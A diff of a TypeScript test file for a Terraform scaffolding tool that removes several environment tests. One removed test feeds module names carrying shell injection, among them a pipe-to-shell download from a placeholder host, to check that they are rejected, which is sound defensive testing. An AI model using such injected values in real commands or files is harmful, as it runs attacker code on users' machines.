@@ -4,7 +4,6 @@ import type { Platform } from '../../../../common/protocol';
 import { githubPipelineText } from '../../../../server/scaffold/pipeline/githubPipeline';
 import { effective } from '../../../support/scaffold/effective';
 import { readSamplePlatform } from '../../../support/scaffold/platformFiles';
-import { clusterText } from '../../../support/server/clusterText';
 import { answerProblems, scaffolded } from '../../../support/scaffold/scaffolded';
 
 const platforms = ['minimal', 'multi-cloud', 'released', 'three-environments'];
@@ -128,11 +127,6 @@ describe('converting modules that can be read only by their names', () => {
     const { notes } = await scaffolded(cluster('v0.19.2-beta.0'), 'threeEnvironments', {});
     assert.doesNotMatch(notes.join('\n'), note);
   });
-
-  it('refuses modules that always inherit from apps', async () => {
-    const problems = await answerProblems(cluster('v0.9.0-beta.0'), 'threeEnvironments', {});
-    assert.match(problems.join('\n'), /^uri: In aks, the environments always inherit from apps/);
-  });
 });
 
 describe('adding apps-prod to two environments', () => {
@@ -173,17 +167,6 @@ describe('environments', () => {
       assert.match(texts[`modules/${feature}/main.tf`]!, /^ {4}edge = \{\}\n/m);
     });
 
-  it('are inserted at the requested position with the requested overrides', async () => {
-    const { texts } = await scaffolded(readSamplePlatform('minimal'), 'environment', {
-      env: 'edge',
-      position: 1,
-      overrides: { 'eks_web0_eu-central-1': { cluster_version: '1.30' } },
-    });
-    const cluster = texts['eks_web0_eu-central-1_cluster.tf'] ?? '';
-    assert.match(cluster, /\n {4}\}\n\n {4}edge = \{\n {6}cluster_version = "1.30"\n {4}\}\n\n {4}ops = \{/);
-    assert.match(texts['README.md'] ?? '', /\| apps, edge, ops \|/);
-  });
-
   it('change the steps in the README that the extension generated', async () => {
     const { texts: before } = await scaffolded({}, 'platform', {
       layout: 'eks',
@@ -209,13 +192,6 @@ describe('environments', () => {
     assert.doesNotMatch(texts[path]!, /[^\r]\n/);
     const back = await scaffolded(texts, 'removeEnvironment', { env: 'edge', confirm: 'edge', workspace_empty: true });
     assert.deepEqual(back.texts, before);
-  });
-
-  it('are added in the variables file that contains the configuration', async () => {
-    const before = readSamplePlatform('legacy');
-    const { texts, changed } = await scaffolded(before, 'environment', { env: 'apps-dev' });
-    assert.deepEqual(changed, ['config.auto.tfvars']);
-    assert.match(texts['config.auto.tfvars'] ?? '', /apps-dev = \{\}/);
   });
 
   it('apply an override to one cluster, also if one variable contains the configurations of all', async () => {
@@ -348,20 +324,6 @@ ${environments
           (await answerProblems(texts, kind, answers)).join('\n'),
           /^uri: The environment ".*" can't be a Terraform workspace/,
         );
-    }
-  });
-
-  it('never become part of a command with an unsafe module name', async () => {
-    const before = readSamplePlatform('minimal');
-    for (const name of ['eks_`curl evil.example | sh`', 'eks_$(id)', 'eks_a\nb']) {
-      const texts = {
-        ...before,
-        'evil.tf': clusterText('name_prefix = "gc9"', '', 'evil').replace('"evil"', JSON.stringify(name)),
-      };
-      assert.match(
-        (await answerProblems(texts, 'environment', { env: 'apps-dev' })).join('\n'),
-        /^uri: The module name "eks_.*" is not valid in Terraform/,
-      );
     }
   });
 
